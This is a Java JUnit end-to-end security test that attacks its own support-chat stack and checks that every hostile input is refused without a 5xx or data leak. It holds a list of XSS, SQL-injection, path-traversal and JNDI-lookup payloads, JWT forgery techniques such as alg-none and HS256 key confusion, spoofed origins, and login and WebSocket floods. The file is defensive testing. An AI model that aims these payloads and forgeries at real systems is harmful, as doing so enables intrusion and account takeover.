package io.goftgu.e2e;

import com.fasterxml.jackson.databind.JsonNode;
import io.goftgu.events.EventJson;
import io.goftgu.testing.TestSocket;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.WebSocket;
import java.net.http.WebSocketHandshakeException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.TimeUnit;

import static io.goftgu.e2e.Gateway.PASSWORD;
import static io.goftgu.e2e.Gateway.call;
import static io.goftgu.e2e.Gateway.login;
import static io.goftgu.e2e.Gateway.newUser;
import static io.goftgu.e2e.Gateway.signUp;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * An outsider's attack, through the gateway of a real stack (docs/security.md): forged tokens, another workspace's
 * ids, customers and guests on staff endpoints, internal-note text looked for in everything a customer or guest gets,
 * XSS and path-traversal strings in text fields and file names, malformed and oversized bodies and frames, control
 * characters, huge pages, Origin spoofing, CSRF without the header, and floods. Every case asserts no 5xx (and its
 * expected 4xx) and no leak; the counts are printed ("hostile inputs: N cases, N passed").
 */
class HostileInputsIT {

    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
    private static final Set<Integer> UNAUTHORIZED = Set.of(401);
    private static final Set<Integer> REFUSED = Set.of(401, 403, 404);
    private static final Set<Integer> NOT_FOUND = Set.of(404);
    private static final Set<Integer> FORBIDDEN_OR_MISSING = Set.of(403, 404);
    private static final Set<Integer> BAD_INPUT = Set.of(400, 404, 409, 413, 415, 422);

    static LocalStack stack;
    static Gateway.Session admin;
    static Gateway.Session customer;
    static Gateway.Session outsider;
    static String slug;
    static String guestToken;
    static String guestTicket;
    static String ticketId;
    static String roomId;
    static String recordId;
    static String attachmentId;
    static String refreshToken;
    static String secret;
    static String recordSecret;

    record Case(String name, int status, boolean passed, String detail) {
    }

    private final List<Case> cases = new ArrayList<>();

    @BeforeAll
    static void workspaces() throws Exception {
        stack = LocalStack.shared();
        slug = "e2e-hostile-" + UUID.randomUUID().toString().substring(0, 8);
        signUp(slug, "Owner", "owner@hostile.test");
        admin = login(slug, "owner@hostile.test");
        customer = newUser(admin, slug, "Customer", "customer@hostile.test", "USER");
        var otherSlug = "e2e-hostile-other-" + UUID.randomUUID().toString().substring(0, 8);
        signUp(otherSlug, "Outsider", "outsider@hostile.test");
        outsider = login(otherSlug, "outsider@hostile.test");
        var withRefresh = send("POST", "/api/auth/login", null, Map.of("workspace", slug, "email", "owner@hostile.test",
                "password", PASSWORD, "includeRefreshToken", true), Map.of());
        refreshToken = EventJson.MAPPER.readTree(withRefresh.body()).path("refreshToken").asText();

        secret = "INTERNAL-" + UUID.randomUUID();
        recordSecret = "RECORD-" + UUID.randomUUID();
        ticketId = call("POST", "/api/support-chat", customer.token(), Map.of("subject", "Printer", "description", "jammed"), 201)
                .path("id").asText();
        call("POST", "/api/support-chat/" + ticketId + "/messages", admin.token(),
                Map.of("body", "note: " + secret, "clientMessageId", UUID.randomUUID().toString(), "internal", true), 201);
        roomId = call("POST", "/api/internal-chat/rooms?type=direct", admin.token(), Map.of("userId", admin.userId()), 201)
                .path("id").asText();
        call("POST", "/api/internal-chat/messages", admin.token(), Map.of("roomId", roomId, "body", "staff only " + secret,
                "clientMessageId", UUID.randomUUID().toString()), 201);
        recordId = call("POST", "/api/support-info", admin.token(), Map.of("title", "Call " + recordSecret,
                "source", "INBOUND_CALL", "type", "QUESTION", "visibleToCustomer", false), 201).path("id").asText();
        var started = call("POST", "/api/support-chat/public/" + slug + "/start", null,
                Map.of("subject", "Hello", "message", "I need help", "name", "Visitor"), 201);
        guestToken = started.path("guestToken").asText();
        guestTicket = started.path("ticket").path("id").asText();
        attachmentId = upload(admin.token(), "plan.txt", "staff plan".getBytes(StandardCharsets.UTF_8)).path("id").asText();
    }

    @Test
    void anOutsidersAttackGetsNo5xxAndNoLeak() throws Exception {
        var started = System.nanoTime();
        forgedTokens();
        anotherWorkspacesIds();
        customersAndGuestsOnStaffEndpoints();
        internalNotesNeverReachCustomersOrGuests();
        xssAndTraversalInTextFieldsAndFileNames();
        malformedAndOversizedBodies();
        hugePagesAndLists();
        originSpoofingAndCsrf();
        framesAndSockets();
        floods();

        var failed = cases.stream().filter(c -> !c.passed()).toList();
        System.out.printf("hostile inputs: %d cases, %d passed (%d s)%n", cases.size(), cases.size() - failed.size(),
                TimeUnit.NANOSECONDS.toSeconds(System.nanoTime() - started));
        failed.forEach(c -> System.out.println("  FAILED " + c.name() + " → " + c.status() + " " + c.detail()));
        assertTrue(cases.size() >= 200, "at least 200 cases: " + cases.size());
        assertTrue(failed.isEmpty(), failed.size() + " hostile inputs were mishandled: " + failed);
    }

    // ---- forged tokens -------------------------------------------------------------------------------------------

    private void forgedTokens() throws Exception {
        var real = admin.token();
        var parts = real.split("\\.");
        var header = json(parts[0]);
        var claims = json(parts[1]);
        var kid = header.path("kid").asText();
        var jwks = send("GET", "/.well-known/jwks.json", null, null, Map.of()).body();

        var forged = new LinkedHashMap<String, String>();
        forged.put("alg none", b64("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + parts[1] + ".");
        forged.put("alg none, no dot", b64("{\"alg\":\"none\"}") + "." + parts[1]);
        forged.put("HS256 signed with the public key", hs256("{\"alg\":\"HS256\",\"typ\":\"JWT\",\"kid\":\"" + kid + "\"}",
                parts[1], jwks.getBytes(StandardCharsets.UTF_8)));
        forged.put("HS256 signed with the modulus", hs256("{\"alg\":\"HS256\",\"kid\":\"" + kid + "\"}", parts[1],
                EventJson.MAPPER.readTree(jwks).path("keys").get(0).path("n").asText().getBytes(StandardCharsets.UTF_8)));
        forged.put("wrong kid", b64(header.deepCopy().put("kid", "not-a-key").toString()) + "." + parts[1] + "." + parts[2]);
        forged.put("expired (claims edited)", parts[0] + "." + b64(claims.deepCopy().put("exp", 1_000_000_000L).toString()) + "." + parts[2]);
        forged.put("wrong issuer (claims edited)", parts[0] + "." + b64(claims.deepCopy().put("iss", "evil").toString()) + "." + parts[2]);
        forged.put("wrong audience (claims edited)", parts[0] + "." + b64(claims.deepCopy().put("aud", "evil").toString()) + "." + parts[2]);
        forged.put("another workspace (claims edited)", parts[0] + "." + b64(claims.deepCopy()
                .put("wid", UUID.randomUUID().toString()).toString()) + "." + parts[2]);
        forged.put("signature cut", parts[0] + "." + parts[1] + ".");
        forged.put("garbage", "not.a.token");
        forged.put("a refresh token", refreshToken);

        var endpoints = List.of("/api/auth/me", "/api/internal-chat/rooms", "/api/support-chat", "/api/support-info",
                "/api/workspace/users", "/api/internal-chat/contacts");
        for (var token : forged.entrySet()) {
            for (var path : endpoints) {
                expect("forged token (" + token.getKey() + ") GET " + path, send("GET", path, token.getValue(), null, Map.of()),
                        UNAUTHORIZED);
            }
            expect("forged token (" + token.getKey() + ") at the WebSocket upgrade", upgrade(Map.of("Authorization",
                    "Bearer " + token.getValue())), UNAUTHORIZED);
        }
        // a guest token is a real token, but only for its own ticket
        for (var path : List.of("/api/internal-chat/rooms", "/api/support-info", "/api/workspace/users",
                "/api/internal-chat/contacts", "/api/support-chat/stats")) {
            expect("a GUEST token as an access token: GET " + path, send("GET", path, guestToken, null, Map.of()),
                    FORBIDDEN_OR_MISSING);
        }
    }

    // ---- another workspace's ids ---------------------------------------------------------------------------------

    private void anotherWorkspacesIds() throws Exception {
        var token = outsider.token();
        var reads = List.of("/api/internal-chat/rooms/" + roomId, "/api/internal-chat/messages?roomId=" + roomId,
                "/api/internal-chat/rooms/" + roomId + "/members", "/api/internal-chat/rooms/" + roomId + "/pins",
                "/api/internal-chat/attachments/" + attachmentId, "/api/support-chat/" + ticketId,
                "/api/support-chat/" + ticketId + "/messages", "/api/support-chat/" + ticketId + "/history",
                "/api/support-chat/" + guestTicket, "/api/support-info/" + recordId);
        for (var path : reads) {
            expectNoLeak("another workspace's id: GET " + path, send("GET", path, token, null, Map.of()), NOT_FOUND);
        }
        expect("another workspace's room: POST a message", send("POST", "/api/internal-chat/messages", token,
                Map.of("roomId", roomId, "body", "hi", "clientMessageId", UUID.randomUUID().toString()), Map.of()), NOT_FOUND);
        expect("another workspace's room: PATCH", send("PATCH", "/api/internal-chat/rooms/" + roomId, token,
                Map.of("title", "mine"), Map.of()), NOT_FOUND);
        expect("another workspace's room: invite", send("POST", "/api/internal-chat/rooms/" + roomId + "/members", token,
                Map.of("userId", outsider.userId()), Map.of()), NOT_FOUND);
        expect("another workspace's room: read", send("POST", "/api/internal-chat/rooms/" + roomId + "/read", token,
                Map.of("seq", 1), Map.of()), NOT_FOUND);
        expect("another workspace's ticket: PATCH", send("PATCH", "/api/support-chat/" + ticketId, token,
                Map.of("status", "CLOSED"), Map.of()), NOT_FOUND);
        expect("another workspace's ticket: POST a message", send("POST", "/api/support-chat/" + ticketId + "/messages",
                token, Map.of("body", "x", "clientMessageId", UUID.randomUUID().toString()), Map.of()), NOT_FOUND);
        expect("another workspace's record: PATCH", send("PATCH", "/api/support-info/" + recordId, token,
                Map.of("title", "mine"), Map.of()), NOT_FOUND);
        expect("another workspace's record: DELETE", send("DELETE", "/api/support-info/" + recordId, token, null, Map.of()),
                NOT_FOUND);
        expect("another workspace's user: PATCH", send("PATCH", "/api/workspace/users/" + customer.userId(), token,
                Map.of("active", false), Map.of()), NOT_FOUND);
        expect("another workspace's user in a direct room", send("POST", "/api/internal-chat/rooms?type=direct", token,
                Map.of("userId", admin.userId()), Map.of()), Set.of(400, 404));
        expect("another workspace's upload in a message", send("POST", "/api/internal-chat/messages", token,
                Map.of("roomId", call("POST", "/api/internal-chat/rooms?type=direct", token, Map.of("userId", outsider.userId()), 201)
                        .path("id").asText(), "body", "x", "clientMessageId", UUID.randomUUID().toString(),
                        "attachmentIds", List.of(attachmentId)), Map.of()), Set.of(400, 404));
    }

    // ---- customers and guests on staff endpoints -----------------------------------------------------------------

    private void customersAndGuestsOnStaffEndpoints() throws Exception {
        var staffOnly = List.of(
                new String[] {"GET", "/api/internal-chat/rooms"}, new String[] {"GET", "/api/internal-chat/contacts"},
                new String[] {"GET", "/api/internal-chat/unread"}, new String[] {"GET", "/api/internal-chat/search?q=secret"},
                new String[] {"GET", "/api/internal-chat/rooms/" + roomId},
                new String[] {"GET", "/api/internal-chat/attachments/" + attachmentId},
                new String[] {"GET", "/api/support-chat/stats"}, new String[] {"GET", "/api/support-chat/" + ticketId + "/history"},
                new String[] {"GET", "/api/workspace/users"}, new String[] {"GET", "/api/workspace/teams"},
                new String[] {"GET", "/api/support-chat/sla-policies"}, new String[] {"GET", "/api/support-chat/canned-responses"});
        var staffWrites = List.of(
                new Object[] {"POST", "/api/support-chat/labels", Map.of("name", "x", "color", "#000000")},
                new Object[] {"POST", "/api/support-chat/categories", Map.of("name", "x")},
                new Object[] {"POST", "/api/support-info", Map.of("title", "x", "source", "INBOUND_CALL", "type", "QUESTION")},
                new Object[] {"POST", "/api/workspace/users", Map.of("name", "x", "email", "x@x.test", "password", PASSWORD, "role", "ADMIN")},
                new Object[] {"POST", "/api/workspace/teams", Map.of("name", "x", "memberIds", List.of())},
                new Object[] {"PATCH", "/api/support-chat/" + ticketId, Map.of("assigneeId", admin.userId())},
                new Object[] {"POST", "/api/internal-chat/rooms?type=group", Map.of("title", "x", "memberIds", List.of())},
                new Object[] {"POST", "/api/internal-chat/attachments", null});
        for (var who : Map.of("customer", customer.token(), "guest", guestToken).entrySet()) {
            for (var endpoint : staffOnly) {
                expectNoLeak(who.getKey() + " on a staff endpoint: " + endpoint[0] + " " + endpoint[1],
                        send(endpoint[0], endpoint[1], who.getValue(), null, Map.of()), FORBIDDEN_OR_MISSING);
            }
            for (var endpoint : staffWrites) {
                expect(who.getKey() + " on a staff endpoint: " + endpoint[0] + " " + endpoint[1],
                        send((String) endpoint[0], (String) endpoint[1], who.getValue(), endpoint[2], Map.of()),
                        Set.of(403, 404, 415));
            }
        }
        expect("a guest on another visitor's ticket", send("GET", "/api/support-chat/" + ticketId, guestToken, null, Map.of()),
                NOT_FOUND);
        expect("a customer on a guest's ticket", send("GET", "/api/support-chat/" + guestTicket, customer.token(), null, Map.of()),
                NOT_FOUND);
        expect("a customer on a hidden support-info record", send("GET", "/api/support-info/" + recordId, customer.token(),
                null, Map.of()), NOT_FOUND);
    }

    // ---- internal notes ------------------------------------------------------------------------------------------

    private void internalNotesNeverReachCustomersOrGuests() throws Exception {
        var noteText = "LIVE-" + UUID.randomUUID();
        try (var customerSocket = TestSocket.connect(URI.create(stack.ws()), customer.token());
             var guestSocket = TestSocket.connect(URI.create(stack.ws()), guestToken)) {
            call("POST", "/api/support-chat/" + ticketId + "/messages", admin.token(),
                    Map.of("body", "note " + noteText, "clientMessageId", UUID.randomUUID().toString(), "internal", true), 201);
            call("POST", "/api/support-chat/" + guestTicket + "/messages", admin.token(),
                    Map.of("body", "note " + noteText, "clientMessageId", UUID.randomUUID().toString(), "internal", true), 201);
            call("POST", "/api/support-chat/" + ticketId + "/messages", admin.token(),
                    Map.of("body", "public reply", "clientMessageId", UUID.randomUUID().toString()), 201);
            customerSocket.await(f -> f.toString().contains("public reply"), Duration.ofSeconds(20));
            var customerFrames = customerSocket.drain(Duration.ofSeconds(2));
            var guestFrames = guestSocket.drain(Duration.ZERO);
            record("no internal note in the customer's frames", 101, customerFrames.stream()
                    .noneMatch(f -> f.toString().contains(noteText) || f.toString().contains(secret)), customerFrames.toString());
            record("no internal note in the guest's frames", 101, guestFrames.stream()
                    .noneMatch(f -> f.toString().contains(noteText) || f.toString().contains(secret)), guestFrames.toString());
        }
        for (var read : List.of(new String[] {customer.token(), "/api/support-chat/" + ticketId + "/messages"},
                new String[] {customer.token(), "/api/support-chat/" + ticketId},
                new String[] {customer.token(), "/api/support-chat"},
                new String[] {customer.token(), "/api/support-chat?q=" + secret},
                new String[] {customer.token(), "/api/support-info"},
                new String[] {guestToken, "/api/support-chat/" + guestTicket + "/messages"},
                new String[] {guestToken, "/api/support-chat/" + guestTicket},
                new String[] {guestToken, "/api/support-chat"},
                new String[] {guestToken, "/api/auth/me"})) {
            var response = send("GET", read[1], read[0], null, Map.of());
            record("no internal note in GET " + read[1] + " as " + (read[0].equals(guestToken) ? "guest" : "customer"),
                    response.statusCode(), response.statusCode() < 500 && !response.body().contains(secret)
                            && !response.body().contains("LIVE-") && !response.body().contains(recordSecret), response.body());
        }
    }

    // ---- XSS and path traversal ----------------------------------------------------------------------------------

    private static final List<String> NASTY = List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "../../../../etc/passwd", "..\\..\\windows\\win.ini", "' OR 1=1 --", "${jndi:ldap://evil/x}",
            "\u202egnp.exe", "{{7*7}}", "javascript:alert(1)", "سلام <b>دنیا</b>");

    private void xssAndTraversalInTextFieldsAndFileNames() throws Exception {
        for (var text : NASTY) {
            stored("internal-chat message body", send("POST", "/api/internal-chat/messages", admin.token(),
                    Map.of("roomId", roomId, "body", text, "clientMessageId", UUID.randomUUID().toString()), Map.of()), "body", text);
            stored("room title", send("POST", "/api/internal-chat/rooms?type=group", admin.token(),
                    Map.of("title", text, "memberIds", List.of()), Map.of()), "title", text);
            stored("ticket subject", send("POST", "/api/support-chat", customer.token(),
                    Map.of("subject", text, "description", text), Map.of()), "subject", text);
            stored("ticket message", send("POST", "/api/support-chat/" + ticketId + "/messages", customer.token(),
                    Map.of("body", text, "clientMessageId", UUID.randomUUID().toString()), Map.of()), "body", text);
            stored("support-info title", send("POST", "/api/support-info", admin.token(),
                    Map.of("title", text, "source", "INBOUND_CALL", "type", "QUESTION"), Map.of()), "title", text);
            stored("label name", send("POST", "/api/support-chat/labels", admin.token(),
                    Map.of("name", text + " " + UUID.randomUUID().toString().substring(0, 4), "color", "#123456"), Map.of()), null, null);
            stored("user name", send("POST", "/api/workspace/users", admin.token(), Map.of("name", text,
                    "email", UUID.randomUUID() + "@hostile.test", "password", PASSWORD, "role", "USER"), Map.of()), "name", text);
            var upload = uploadResponse(admin.token(), text.replace("\u202e", "") + ".txt", "x".getBytes(StandardCharsets.UTF_8));
            String name = null;
            try {
                name = EventJson.MAPPER.readTree(upload.body()).path("name").asText();
            } catch (Exception ignored) {
                // judged below
            }
            var safeName = name != null && !name.contains("/") && !name.contains("\\") && !name.equals("..");
            record("file name " + text, upload.statusCode(), upload.statusCode() < 500
                    && (upload.statusCode() != 201 || safeName), upload.body());
        }
    }

    // ---- malformed bodies ----------------------------------------------------------------------------------------

    private void malformedAndOversizedBodies() throws Exception {
        var bodies = new LinkedHashMap<String, String>();
        bodies.put("not JSON", "{oops");
        bodies.put("an array", "[1,2,3]");
        bodies.put("a string", "\"hello\"");
        bodies.put("null", "null");
        bodies.put("wrong types", "{\"roomId\":5,\"body\":[1],\"clientMessageId\":true,\"subject\":{},\"title\":[]}");
        bodies.put("deep nesting", "[".repeat(5000) + "]".repeat(5000));
        bodies.put("NUL in a text", "{\"roomId\":\"" + roomId + "\",\"body\":\"a\\u0000b\",\"subject\":\"a\\u0000b\",\"title\":\"a\\u0000\","
                + "\"source\":\"INBOUND_CALL\",\"type\":\"QUESTION\",\"clientMessageId\":\"" + UUID.randomUUID() + "\"}");
        bodies.put("a bell in a text", "{\"roomId\":\"" + roomId + "\",\"body\":\"a\\u0007\",\"subject\":\"a\\u0007\",\"title\":\"\\u0007\","
                + "\"source\":\"INBOUND_CALL\",\"type\":\"QUESTION\",\"clientMessageId\":\"" + UUID.randomUUID() + "\"}");
        bodies.put("2 MiB", "{\"body\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}");
        var targets = List.of(new String[] {"POST", "/api/internal-chat/messages"}, new String[] {"POST", "/api/support-chat"},
                new String[] {"POST", "/api/support-info"}, new String[] {"PATCH", "/api/support-chat/" + ticketId},
                new String[] {"POST", "/api/auth/login"});
        for (var body : bodies.entrySet()) {
            for (var target : targets) {
                var response = raw(target[0], target[1], admin.token(), body.getValue(), "application/json");
                expect("malformed body (" + body.getKey() + ") " + target[0] + " " + target[1], response,
                        Set.of(400, 401, 413, 415, 422, 429));
            }
        }
        expect("XML instead of JSON", raw("POST", "/api/support-chat", customer.token(), "<a/>", "application/xml"), Set.of(415));
        expect("no body at all", raw("POST", "/api/support-chat", customer.token(), "", "application/json"), Set.of(400));
        expect("a control character in the path", raw("GET", "/api/support-chat/%00", admin.token(), null, null), Set.of(400, 404));
        expect("a control character in the query", raw("GET", "/api/support-chat?q=%00", admin.token(), null, null), Set.of(400));
        expect("a path-traversal id", raw("GET", "/api/support-chat/..%2F..%2Fetc%2Fpasswd", admin.token(), null, null),
                Set.of(400, 404));
        expect("an attachment path traversal", raw("GET", "/api/internal-chat/attachments/..%2F..%2F", admin.token(), null, null),
                Set.of(400, 404));
    }

    private void hugePagesAndLists() throws Exception {
        for (var path : List.of("/api/support-chat?page=2147483647", "/api/support-chat?page=99999999999999",
                "/api/support-chat?page=-1", "/api/support-chat?limit=1000000", "/api/support-info?page=2147483647",
                "/api/support-info?limit=-5", "/api/workspace/users?page=2147483647", "/api/workspace/teams?page=2147483647",
                "/api/internal-chat/search?q=x&page=2147483647", "/api/internal-chat/messages?roomId=" + roomId + "&limit=100000",
                "/api/internal-chat/messages?roomId=" + roomId + "&before=-9223372036854775808")) {
            // 400, or JAX-RS's 404 for a number that is not an int at all; never a 5xx
            expect("huge or negative paging: " + path, send("GET", path, admin.token(), null, Map.of()), Set.of(400, 404, 200));
        }
        var ids = new ArrayList<String>();
        for (int i = 0; i < 5000; i++) {
            ids.add(UUID.randomUUID().toString());
        }
        expect("5,000 labelIds on a ticket", send("POST", "/api/support-chat", customer.token(),
                Map.of("subject", "x", "labelIds", ids), Map.of()), Set.of(400, 413));
        expect("5,000 labelIds in a PATCH", send("PATCH", "/api/support-chat/" + ticketId, admin.token(),
                Map.of("labelIds", ids), Map.of()), Set.of(400, 413));
        expect("5,000 attachmentIds", send("POST", "/api/internal-chat/messages", admin.token(), Map.of("roomId", roomId,
                "body", "x", "clientMessageId", UUID.randomUUID().toString(), "attachmentIds", ids), Map.of()), Set.of(400, 413));
        expect("5,000 mentions", send("POST", "/api/internal-chat/messages", admin.token(), Map.of("roomId", roomId,
                "body", "x", "clientMessageId", UUID.randomUUID().toString(), "mentions", ids), Map.of()), Set.of(400, 413));
        expect("5,000 memberIds", send("POST", "/api/internal-chat/rooms?type=group", admin.token(), Map.of("title", "x",
                "memberIds", ids), Map.of()), Set.of(400, 413));
        expect("5,000 support-info labelIds", send("POST", "/api/support-info", admin.token(), Map.of("title", "x",
                "source", "INBOUND_CALL", "type", "QUESTION", "labelIds", ids), Map.of()), Set.of(400, 413));
    }

    // ---- Origin and CSRF -----------------------------------------------------------------------------------------

    private void originSpoofingAndCsrf() throws Exception {
        for (var origin : List.of("https://evil.example", "null", "http://localhost:1", stack.origin() + ".evil.example")) {
            expect("WebSocket upgrade from Origin " + origin, upgrade(Map.of("Authorization", "Bearer " + admin.token(),
                    "Origin", origin)), Set.of(403));
        }
        var cookie = Map.of("Cookie", admin.cookies());
        for (var target : List.of(new Object[] {"POST", "/api/support-info", Map.of("title", "csrf", "source", "INBOUND_CALL", "type", "QUESTION")},
                new Object[] {"POST", "/api/internal-chat/messages", Map.of("roomId", roomId, "body", "csrf", "clientMessageId", UUID.randomUUID().toString())},
                new Object[] {"PATCH", "/api/workspace/users/" + customer.userId(), Map.of("active", false)},
                new Object[] {"POST", "/api/auth/logout", Map.of()})) {
            expect("cookie-authenticated " + target[0] + " " + target[1] + " without X-CSRF-Token",
                    send((String) target[0], (String) target[1], null, target[2], cookie), Set.of(403));
            var wrong = new LinkedHashMap<>(cookie);
            wrong.put("X-CSRF-Token", "forged");
            expect("cookie-authenticated " + target[0] + " " + target[1] + " with a wrong X-CSRF-Token",
                    send((String) target[0], (String) target[1], null, target[2], wrong), Set.of(403));
        }
    }

    // ---- frames and sockets --------------------------------------------------------------------------------------

    private void framesAndSockets() throws Exception {
        try (var socket = TestSocket.connect(URI.create(stack.ws()), guestToken)) {
            for (var frame : List.of("not json", "[1]", "{}", "{\"type\":\"dance\"}", "{\"type\":\"internal-chat:message\"}",
                    "{\"type\":\"internal-chat:join\",\"roomId\":\"" + roomId + "\"}",
                    "{\"type\":\"support-chat:typing\",\"ticketId\":\"" + UUID.randomUUID() + "\",\"isTyping\":true}",
                    "{\"type\":\"internal-chat:typing\",\"roomId\":\"" + roomId + "\",\"isTyping\":true}",
                    "{\"type\":\"presence:set\",\"status\":\"<script>\"}", "{\"type\":\"" + "x".repeat(5000) + "\"}")) {
                socket.send(frame);
                var answer = socket.await(f -> "error".equals(f.path("type").asText()) || "ack".equals(f.path("type").asText()),
                        Duration.ofSeconds(10)).json();
                record("a hostile frame " + frame.substring(0, Math.min(60, frame.length())), 101,
                        !answer.toString().contains(secret) && !"ack".equals(answer.path("type").asText()), answer.toString());
            }
            socket.send("{\"type\":\"ping\"}");
            record("the socket still answers after hostile frames", 101,
                    "pong".equals(socket.awaitType("pong", Duration.ofSeconds(10)).json().path("type").asText()), "");
        }
        try (var socket = TestSocket.connect(URI.create(stack.ws()), guestToken)) {
            socket.send("{\"type\":\"ping\",\"pad\":\"" + "x".repeat(100 * 1024) + "\"}");
            var code = socket.closed().get(10, TimeUnit.SECONDS);
            record("a 100 KiB frame closes the socket with 1009 (message too big)", code, code == 1009, "");
        }
        try (var socket = TestSocket.connect(URI.create(stack.ws()), guestToken)) {
            for (int i = 0; i < 200; i++) {
                socket.send("{\"type\":\"ping\"}");
            }
            var code = socket.closed().get(10, TimeUnit.SECONDS);
            record("a frame flood closes the socket (1008)", code, code == 1008, "");
        }
    }

    // ---- floods --------------------------------------------------------------------------------------------------

    private void floods() throws Exception {
        var statuses = new ConcurrentHashMap<Integer, Integer>();
        var logins = new ArrayList<CompletableFuture<Void>>();
        for (int i = 0; i < 200; i++) {
            var body = "{\"workspace\":\"" + slug + "\",\"email\":\"nobody" + i + "@hostile.test\",\"password\":\"guess guess\"}";
            logins.add(HTTP.sendAsync(HttpRequest.newBuilder(URI.create(stack.gateway() + "/api/auth/login"))
                            .header("Content-Type", "application/json").timeout(Duration.ofSeconds(60))
                            .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.discarding())
                    .handle((r, e) -> {
                        statuses.merge(e == null ? r.statusCode() : -1, 1, Integer::sum);
                        return null;
                    }));
        }
        var health = send("GET", "/q/health/live", null, null, Map.of());
        CompletableFuture.allOf(logins.toArray(CompletableFuture[]::new)).get(120, TimeUnit.SECONDS);
        record("200 concurrent anonymous logins: 401 or 429 only", 0,
                statuses.keySet().stream().allMatch(s -> s == 401 || s == 429), statuses.toString());
        record("health answers during the login flood", health.statusCode(), health.statusCode() == 200, "");
        var good = send("POST", "/api/auth/login", null, Map.of("workspace", slug, "email", "customer@hostile.test",
                "password", PASSWORD), Map.of());
        record("a real login after the flood", good.statusCode(), good.statusCode() == 200, good.body());

        var sockets = new ArrayList<TestSocket>();
        int refused = 0;
        try {
            // 20 per replica, and the stack runs two behind the gateway
            for (int i = 0; i < 50; i++) {
                var socket = TestSocket.connect(URI.create(stack.ws()), guestToken);
                sockets.add(socket);
            }
            Thread.sleep(1000);
            for (var socket : sockets) {
                if (socket.closed().isDone()) {
                    refused++;
                }
            }
        } finally {
            sockets.forEach(TestSocket::close);
        }
        record("50 sockets of one guest on two replicas: the ones past 20 per replica are closed", refused,
                refused >= 10, refused + " closed");
    }

    // ---- helpers -------------------------------------------------------------------------------------------------

    private void expect(String name, HttpResponse<String> response, Set<Integer> allowed) {
        expect(name, response.statusCode(), allowed, response.body());
    }

    private void expect(String name, int status, Set<Integer> allowed) {
        expect(name, status, allowed, "");
    }

    private void expect(String name, int status, Set<Integer> allowed, String body) {
        record(name, status, status < 500 && allowed.contains(status), body);
    }

    private void expectNoLeak(String name, HttpResponse<String> response, Set<Integer> allowed) {
        var body = response.body();
        record(name, response.statusCode(), response.statusCode() < 500 && allowed.contains(response.statusCode())
                && !body.contains(secret) && !body.contains(recordSecret), body);
    }

    /** A text field case: a 2xx stores the text as given (JSON is data; escaping is the UI's), a 4xx is fine too. */
    private void stored(String field, HttpResponse<String> response, String property, String text) {
        boolean ok = response.statusCode() < 500;
        if (ok && property != null && response.statusCode() / 100 == 2) {
            try {
                ok = text.equals(EventJson.MAPPER.readTree(response.body()).path(property).asText());
            } catch (Exception e) {
                ok = false;
            }
        }
        record(field + " = " + text, response.statusCode(), ok, response.body());
    }

    private void record(String name, int status, boolean passed, String detail) {
        cases.add(new Case(name, status, passed, detail == null ? "" : detail.substring(0, Math.min(300, detail.length()))));
    }

    private static HttpResponse<String> send(String method, String path, String token, Object body,
                                             Map<String, String> headers) throws Exception {
        return raw(method, path, token, body == null ? null : EventJson.MAPPER.writeValueAsString(body), "application/json",
                headers);
    }

    private static HttpResponse<String> raw(String method, String path, String token, String body, String type)
            throws Exception {
        return raw(method, path, token, body, type, Map.of());
    }

    private static HttpResponse<String> raw(String method, String path, String token, String body, String type,
                                            Map<String, String> headers) throws Exception {
        var request = HttpRequest.newBuilder(URI.create(stack.gateway() + path)).timeout(Duration.ofSeconds(30))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
        if (type != null && body != null) {
            request.header("Content-Type", type);
        }
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        headers.forEach(request::header);
        return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static JsonNode upload(String token, String name, byte[] bytes) throws Exception {
        var response = uploadResponse(token, name, bytes);
        assertEquals(201, response.statusCode(), response.body());
        return EventJson.MAPPER.readTree(response.body());
    }

    private static HttpResponse<String> uploadResponse(String token, String name, byte[] bytes) throws Exception {
        var boundary = "----goftgu" + UUID.randomUUID();
        var head = ("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name.replace("\"", "")
                + "\"\r\nContent-Type: application/octet-stream\r\n\r\n").getBytes(StandardCharsets.UTF_8);
        var tail = ("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8);
        var body = new byte[head.length + bytes.length + tail.length];
        System.arraycopy(head, 0, body, 0, head.length);
        System.arraycopy(bytes, 0, body, head.length, bytes.length);
        System.arraycopy(tail, 0, body, head.length + bytes.length, tail.length);
        return HTTP.send(HttpRequest.newBuilder(URI.create(stack.gateway() + "/api/internal-chat/attachments"))
                .header("Authorization", "Bearer " + token)
                .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(), HttpResponse.BodyHandlers.ofString());
    }

    /** The status of a WebSocket upgrade: 101 when it opened (then closed again), else the refusal's status. */
    private static int upgrade(Map<String, String> headers) {
        var builder = HTTP.newWebSocketBuilder().connectTimeout(Duration.ofSeconds(10));
        headers.forEach(builder::header);
        try {
            var socket = builder.buildAsync(URI.create(stack.ws()), new WebSocket.Listener() {
                @Override
                public CompletionStage<?> onText(WebSocket webSocket, CharSequence data, boolean last) {
                    webSocket.request(1);
                    return null;
                }
            }).get(15, TimeUnit.SECONDS);
            socket.sendClose(WebSocket.NORMAL_CLOSURE, "");
            return 101;
        } catch (java.util.concurrent.ExecutionException e) {
            if (e.getCause() instanceof WebSocketHandshakeException handshake) {
                return handshake.getResponse().statusCode();
            }
